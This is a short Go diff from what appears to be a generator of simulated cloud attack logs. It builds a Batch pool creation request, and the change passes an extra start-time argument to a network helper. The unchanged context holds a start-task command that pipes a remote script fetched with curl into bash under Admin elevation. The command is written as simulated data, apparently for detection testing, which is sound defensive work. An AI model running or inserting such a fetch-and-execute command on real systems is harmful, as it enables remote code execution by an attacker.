@@ -77,7 +77,7 @@ func (g *gen) mlFanout(at time.Time) Attack {
 		"startTask":               map[string]any{"commandLine": "/bin/bash -c 'curl -fsSL https://" + pool + "/x.sh | bash'", "userIdentity": map[string]any{"autoUser": map[string]any{"elevationLevel": "Admin"}}}}}
 	// The nodes join a network made for them, which the tenant's flow-log
 	// policy logs like any other.
-	net := g.attackNetwork(now.Add(time.Minute), sp, "batch-"+regions[1], "render", regions[1])
+	net := g.attackNetwork(now.Add(time.Minute), a.Start, sp, "batch-"+regions[1], "render", regions[1])
 	body["properties"].(map[string]any)["networkConfiguration"] = map[string]any{"subnetId": net.vnet + "/subnets/renderSubnet"}
 	now = g.arm(now.Add(time.Minute), sp, "MICROSOFT.BATCH/BATCHACCOUNTS/POOLS/WRITE", poolID, armOpts{Body: body, Loc: regions[1], Accept: true})
 	a.Resources = append(a.Resources, strings.ToLower(acct))
